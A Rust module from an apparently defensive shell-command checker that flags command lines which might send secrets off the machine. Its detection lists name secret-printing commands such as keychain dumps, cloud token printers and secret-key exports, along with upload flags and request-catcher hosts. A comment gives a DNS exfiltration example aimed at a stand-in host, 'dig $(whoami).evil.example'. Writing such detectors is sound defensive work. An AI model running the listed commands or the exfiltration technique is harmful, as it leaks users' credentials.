//! Would secrets leave the machine: which come up on the line, and does anything on it carry them
//! away?

use tenterhook_shell::Context;

use super::Found;
use super::hosts::{self, RESOLVERS};
use super::path_kind;
use super::view::{Redirected, View};

/// Ends and parts of the names of variables that hold secrets.
const SECRET_NAMES: &[&str] = &[
    "SECRET",
    "TOKEN",
    "PASSWORD",
    "PASSWD",
    "API_KEY",
    "APIKEY",
    "ACCESS_KEY",
    "PRIVATE_KEY",
    "CREDENTIAL",
];

/// Programs that print a secret, by their first words.
const KEEPERS: &[(&str, &[&str])] = &[
    ("security", &["find-generic-password", "find-internet-password", "dump-keychain"]),
    ("secret-tool", &["lookup", "search"]),
    ("gh", &["token"]),
    ("gcloud", &["print-access-token", "print-identity-token"]),
    ("op", &["read"]),
    ("pass", &["show"]),
    ("vault", &["read", "get"]),
    ("aws", &["get-secret-value", "export-credentials"]),
    ("gpg", &["--export-secret-keys"]),
];

/// Where something can be put without a request body: a client that only speaks of names.
const DATA: &[&str] = &[
    "-d",
    "--data",
    "--data-raw",
    "--data-binary",
    "--data-ascii",
    "--data-urlencode",
    "--json",
    "-F",
    "--form",
    "--form-string",
    "-T",
    "--upload-file",
    "--post-data",
    "--post-file",
    "--body-data",
    "--body-file",
];

pub(super) fn note_sent_data(views: &[View<'_>], groups: &[Redirected], found: &mut Found) {
    let mut asked = false;
    for view in views.iter().take_while(|view| view.charge_for_reading()) {
        let hosts = hosts::contacted_hosts(view);
        let puts = !view.option_values(DATA).is_empty()
            || view.has_argument(&["-X", "--method=POST"])
            || !super::hosts::DOWNLOADERS.contains(&view.name.as_str());
        let dropped = hosts.iter().filter(|host| {
            hosts::is_request_catcher(host) || (puts && hosts::is_public_upload_host(host))
        });
        found.drops.extend(dropped.cloned());
        if hosts::can_send_data(view) && !hosts.is_empty() {
            note_sent_variables(view, found);
        }
        found.hosts.extend(hosts);
        note_computed_host_names(view, found);
        asked |= note_sql_statements(view, found);
    }
    if asked {
        // The text echoed into a client is not distinguished from text echoed elsewhere on the
        // line.
        let echoed =
            views.iter().filter(|view| matches!(view.name.as_str(), "echo" | "printf" | "cat"));
        found.sql.extend(echoed.flat_map(|view| view.texts_given_to_command().map(str::to_owned)));
    }
    let sockets: Vec<String> =
        groups.iter().filter_map(|(_, file)| hosts::host_of_socket_path(file)).collect();
    let carriers = !sockets.is_empty()
        || views
            .iter()
            .any(|view| hosts::can_send_data(view) && !hosts::contacted_hosts(view).is_empty());
    found.hosts.extend(sockets);
    if carriers {
        let kept = found
            .shows
            .iter()
            .filter(|text| path_kind::holds_credentials(text) || path_kind::is_env_file(text));
        let kept: Vec<String> = kept.cloned().collect();
        found.leaks.extend(kept);
        found.leaks.extend(views.iter().filter_map(|view| printed_secrets(view, groups)));
    }
}

/// Returns the environment, or the output of a secret store, if a command prints it into a pipe or
/// a file.
fn printed_secrets(view: &View<'_>, groups: &[Redirected]) -> Option<String> {
    let name = view.name.as_str();
    let whole = match name {
        "env" | "printenv" | "set" => view.args.is_empty(),
        "export" | "declare" | "typeset" => {
            view.args.iter().all(|arg| matches!(arg.as_str(), "-p" | "-x" | "-xp" | "-px"))
        }
        "compgen" => view.has_argument(&["-v", "-e"]),
        _ => false,
    };
    let keeps = KEEPERS.iter().any(|(known, verbs)| *known == name && view.has_argument(verbs));
    let feeds =
        view.is_output_consumed() || !groups.is_empty() || !view.command.redirects.is_empty();
    if whole && feeds {
        return Some("the environment".to_owned());
    }
    keeps.then(|| name.to_owned())
}

/// Notes variables with names of secrets in data that is sent. Headers and `-u` are left out,
/// because they authenticate.
fn note_sent_variables(view: &View<'_>, found: &mut Found) {
    let signs = ["-H", "--header", "-u", "--user", "--oauth2-bearer", "--password", "-b"];
    let mut args = view.args.iter().map(String::as_str);
    while let Some(arg) = args.next() {
        if signs.contains(&arg) {
            args.next();
        } else {
            found.sent_variables.extend(secret_variables(arg));
        }
    }
    let here: Vec<String> =
        view.texts_given_to_command().skip(view.args.len()).flat_map(secret_variables).collect();
    found.sent_variables.extend(here);
}

/// Returns the variables in a text whose names are those of secrets.
fn secret_variables(text: &str) -> Vec<String> {
    let names = text.split('$').skip(1).map(|part| part.trim_start_matches('{'));
    let names = names.map(|name| {
        let end = name.find(|c: char| c != '_' && !c.is_ascii_alphanumeric()).unwrap_or(name.len());
        name.get(..end).unwrap_or_default()
    });
    let secret = |name: &&str| {
        let upper = name.to_ascii_uppercase();
        SECRET_NAMES.iter().any(|secret_name| upper.contains(secret_name))
    };
    names.filter(secret).map(str::to_owned).collect()
}

/// Notes host names that are computed and then looked up, because each lookup sends the name to a
/// server: `dig $(whoami).evil.example`.
fn note_computed_host_names(view: &View<'_>, found: &mut Found) {
    if !RESOLVERS.contains(&view.name.as_str()) {
        return;
    }
    for word in view.command.words.iter().skip(1) {
        let source = word.source.as_str();
        let computed = source.contains("$(") || source.contains('`');
        let end =
            source.trim_end_matches(['"', '\'']).rsplit([')', '`', '}']).next().unwrap_or_default();
        let variable = !secret_variables(source).is_empty();
        if (computed && end.starts_with('.')) || variable {
            found.leaks.insert(format!("a name for {}", view.name));
        }
    }
}

/// Programs that run statements.
const CLIENTS: &[&str] = &[
    "psql",
    "mysql",
    "mariadb",
    "sqlite3",
    "sqlcmd",
    "sqlplus",
    "mongo",
    "mongosh",
    "redis-cli",
    "valkey-cli",
    "clickhouse-client",
    "cqlsh",
    "duckdb",
    "bq",
    "snowsql",
    "cockroach",
    "usql",
    "pgcli",
    "mycli",
];

/// Notes the arguments and here-documents of a database client as SQL. Returns whether more
/// statements may come from a pipe.
fn note_sql_statements(view: &View<'_>, found: &mut Found) -> bool {
    let name = view.name.as_str();
    if !CLIENTS.contains(&name) {
        return false;
    }
    found.sql.extend(
        view.texts_given_to_command().filter(|text| !text.starts_with('-')).map(str::to_owned),
    );
    found.sql.insert(view.args.join(" "));
    view.command.context == Context::Pipeline
}
